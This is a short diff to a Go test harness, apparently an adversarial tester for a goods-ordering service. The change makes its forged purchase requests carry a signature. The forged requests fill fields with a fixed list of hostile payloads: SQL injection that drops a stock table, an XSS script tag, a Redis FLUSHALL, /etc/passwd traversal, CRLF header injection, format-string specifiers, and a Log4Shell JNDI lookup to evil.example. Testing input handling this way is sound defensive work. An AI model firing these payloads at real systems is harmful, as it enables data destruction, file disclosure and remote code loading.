@@ -43,7 +43,7 @@ func forgeries() []Attack {
 			fragment := pick(a, `1'; DROP TABLE tb_goods_stock; --`, `1 OR 1=1`, `"><script>alert(1)</script>`, `return redis.call('FLUSHALL')`,
 				`../../etc/passwd`, "\x00\x01", "\r\nX-Injected: yes", `%s%n%d`, `${jndi:ldap://evil.example/}`)
 			field := pick(a, "goods_id", "quantity", "user_id", "strategy", "group", "durable", a.text(3))
-			return a.buy(ctx, map[string]string{"goods_id": "1", field: fragment}, nil)
+			return a.buy(ctx, map[string]string{"goods_id": "1", field: fragment}, a.signed())
 		}},
 		{Name: "send anything", Row: "6", Weight: 3, do: anything},
 	}
